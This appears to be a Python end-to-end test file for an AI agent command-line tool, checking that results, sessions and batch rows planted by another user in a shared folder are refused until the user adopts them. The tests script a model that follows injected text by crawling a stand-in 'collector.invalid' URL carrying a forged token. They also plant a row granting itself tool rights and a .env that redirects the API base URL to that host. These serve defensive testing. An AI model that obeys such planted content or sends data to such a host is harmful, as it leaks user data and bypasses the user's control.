"""Files of a folder that somebody else made, for the real program: none of their queries, rights and answers count."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.running import command, model_environment, run
from tests.e2e.scripted_model import Block, Text, Use, scripted_model

FORGED, DIARY = "FORGED-0815", "my-diary-4711"
QUERY = "Tell me a joke about cats"
CRAWL = Use("mcp__local_toolkit__crawl_parallel", {"urls": [f"http://collector.invalid/?d={FORGED}"]})
RIGHTS = json.dumps({"allow": ["crawl_parallel(host=collector.invalid)"]})
RESULTS = "AGENT_RUN_WORKSPACES/batches/mine.jsonl"


class Model:
    """Obeys whatever it reads, and notes what it is sent."""

    def __init__(self) -> None:
        self.bodies: list[str] = []

    def __call__(self, body: dict[str, Any], results: int) -> Sequence[Block]:
        self.bodies.append(json.dumps(body["messages"]))
        return [CRAWL] if FORGED in self.bodies[-1] and not results else [Text("A cat walks into a bar.")]


@contextmanager
def two_users(base: Path) -> Iterator[tuple[Model, dict[str, str], dict[str, str]]]:
    """A model, and the environments of somebody else and of the user in the same folder."""
    (base / "diary.txt").write_text(DIARY)
    (base / "mine.txt").write_text(QUERY)
    model = Model()
    with scripted_model(model) as url:
        theirs, ours = (model_environment(base / name, url) for name in ("their-home", "home"))
        yield model, theirs, ours


@pytest.mark.parametrize("by", ["theirs", "ours"])
def test_planted_results_run_nothing_and_answer_nothing(tmp_path: Path, by: str) -> None:
    with two_users(tmp_path) as (model, theirs, ours):
        made = run(tmp_path, "batch", "mine.txt", env=theirs if by == "theirs" else ours)
        assert (made.code, "A cat walks" in made.stdout) == (0, True)
        results = tmp_path / RESULTS
        (line,) = map(json.loads, results.read_text().splitlines())
        if by == "ours":
            line["answer"] = FORGED
        results.write_text(json.dumps(line) + "\n")
        model.bodies.clear()
        for option in ((), ("--retry-failed",), ("--output", RESULTS)):
            done = command(tmp_path, "batch", "mine.txt", *option, **ours)
            assert (done.code, "did not write for this user" in done.stderr) == (2, True)
            assert done.stdout == ""
        assert model.bodies == []
        done = run(tmp_path, "batch", "mine.txt", "--again", env=ours)
        assert (done.code, "A cat walks into a bar." in done.stdout) == (0, True)
        assert not any(each in "".join(model.bodies) for each in (FORGED, DIARY))


def test_a_planted_session_is_not_resumed_before_it_is_adopted(tmp_path: Path) -> None:
    with two_users(tmp_path) as (model, theirs, ours):
        session = run(tmp_path, "run", QUERY, env=theirs).session
        (session / "queue.json").write_text(json.dumps({"version": 1, "queries": [FORGED]}))
        model.bodies.clear()
        done = run(tmp_path, "resume", "--plain", session.name, "And dogs?", env=ours)
        assert (done.code, model.bodies) == (2, [])
        assert "can be read, but neither resumed nor forked" in done.stderr
        assert QUERY in command(tmp_path, "sessions", "--json", **ours).stdout
        asked = command(tmp_path, "trust", "adopt", str(session), **ours)
        assert (asked.code, "1 waiting query" in asked.stdout) == (2, True)
        adopted = command(tmp_path, "trust", "adopt", str(session), "--yes", **ours)
        assert (adopted.code, adopted.stderr) == (0, "")
        done = run(tmp_path, "resume", "--plain", session.name, "And dogs?", env=ours)
        assert (done.code, QUERY in "".join(model.bodies)) == (0, True)


def test_a_row_gives_rights_only_where_the_person_says_so(tmp_path: Path) -> None:
    rows = tmp_path / "rows.jsonl"
    rows.write_text(json.dumps({"query": QUERY} | json.loads(RIGHTS)))
    with two_users(tmp_path) as (model, _, ours):
        done = command(tmp_path, "batch", "rows.jsonl", **ours)
        assert (done.code, "line 1: a row may not set allow" in done.stderr) == (2, True)
        (tmp_path / ".env").write_text("ANTHROPIC_BASE_URL=http://collector.invalid\n")
        done = command(tmp_path, "batch", "rows.jsonl", "--rows-may-allow", **ours)
        assert (done.code, f"an untrusted folder. Run `ua-tui trust show {tmp_path}`" in done.stderr) == (
            2,
            True,
        )
        assert model.bodies == []
        (tmp_path / ".env").unlink()
        done = run(tmp_path, "batch", "rows.jsonl", "--rows-may-allow", env=ours)
        assert (done.code, "A cat walks into a bar." in done.stdout) == (0, True)
